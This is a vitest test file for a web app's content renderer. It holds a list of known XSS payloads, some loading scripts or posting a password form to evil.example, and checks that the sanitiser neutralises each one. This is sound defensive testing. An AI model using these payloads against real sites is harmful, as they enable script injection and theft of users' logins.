import { describe, expect, it } from 'vitest';
import { CONTENT_FORMATS } from '@crucible/proto';
import { dangersIn } from '../testing/html-dangers.ts';
import { mentionsIn } from './mentions.ts';
import { excerptOf, renderContent } from './render.ts';

/** Classic payloads (OWASP XSS filter evasion cheat sheet and friends), raw and inside markdown. */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href=" &#14;  javascript:alert(1)">spaces</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<a href="//evil.example/">protocol relative</a>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=password></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="https://ok.example" onclick="alert(1)">ok link, bad handler</a>',
  '<code class="language-js" onmouseover="alert(1)">x</code>',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](  javascript:alert(1)  )',
  '![img](javascript:alert(1))',
  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x]: javascript:alert(1)\n\n[ref][x]',
  '<a href="javascript&colon;alert(1)">colon entity</a>',
  '@[<img src=x onerror=alert(1)>](00000000-0000-4000-8000-000000000000)',
];

describe('renderContent', () => {
  it('is checked by a detector that does flag the raw payloads', () => {
    const flaggedRaw = XSS_PAYLOADS.filter((payload) => dangersIn(payload).length > 0);
    expect(flaggedRaw.length).toBeGreaterThanOrEqual(30);
  });

  for (const format of CONTENT_FORMATS) {
    it(`leaves every known XSS payload inert when the content format is ${format}`, () => {
      expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(20);
      for (const payload of XSS_PAYLOADS) {
        for (const content of [payload, `Intro **bold**\n\n${payload}\n\n- item`]) {
          expect(dangersIn(renderContent(content, format)), `${format}: ${payload}`).toEqual([]);
        }
      }
    });
  }

  it('renders markdown structure, code with its language class and safe links', () => {
    const html = renderContent(
      '# Title\n\nSome *emphasis* and `code`.\n\n```ts\nconst a = 1;\n```\n\n[site](https://example.org)',
      'markdown',
    );
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<em>emphasis</em>');
    expect(html).toContain('<code class="language-ts">');
    expect(html).toContain(
      '<a href="https://example.org" rel="nofollow noopener noreferrer ugc" target="_blank">site</a>',
    );
  });

  it.for(['markdown', 'html'] as const)(
    'shows an image from another site as a link to it, never fetched by the page (%s)',
    (format) => {
      const content =
        format === 'markdown'
          ? '![a cat](https://tracker.example/pixel.png)'
          : '<img src="https://tracker.example/pixel.png" alt="a cat">';
      const html = renderContent(content, format);
      expect(html).not.toContain('<img');
      expect(html).toContain(
        '<a href="https://tracker.example/pixel.png" rel="nofollow noopener noreferrer ugc" target="_blank">Image: a cat</a>',
      );
    },
  );

  it('keeps images of our own origin as images', () => {
    expect(renderContent('![plan](/api/attachments/1/download)', 'markdown')).toContain(
      '<img src="/api/attachments/1/download" alt="plan" />',
    );
    expect(renderContent('<img src="//tracker.example/pixel.png" alt="x">', 'html')).not.toContain('tracker.example');
  });

  it('escapes plain text instead of interpreting it', () => {
    expect(renderContent('<b>not bold</b>\nnext line', 'plain')).toBe(
      '<p>&lt;b&gt;not bold&lt;/b&gt;<br>next line</p>',
    );
  });

  it('links a mention to the member profile and shows it as @name in plain text', () => {
    const mention = '@[Ada Lovelace](6f1c2f7e-8d1b-4d59-9a58-1c7d1b2c3d4e)';
    expect(renderContent(`Hi ${mention}`, 'markdown')).toContain(
      '<a href="/profile/6f1c2f7e-8d1b-4d59-9a58-1c7d1b2c3d4e">@Ada Lovelace</a>',
    );
    expect(renderContent(`Hi ${mention}`, 'plain')).toBe('<p>Hi @Ada Lovelace</p>');
    expect(excerptOf(`Hi ${mention}`)).toBe('Hi @Ada Lovelace');
  });
});

describe('mentionsIn', () => {
  it('finds picked mentions by id and typed mentions by e-mail, each once', () => {
    const content =
      '@[Ada](6F1C2F7E-8D1B-4D59-9A58-1C7D1B2C3D4E) and @grace@navy.example, again @grace@navy.example; not me@host.example';
    expect(mentionsIn(content)).toEqual({
      userIds: ['6f1c2f7e-8d1b-4d59-9a58-1c7d1b2c3d4e'],
      emails: ['grace@navy.example'],
    });
  });
});
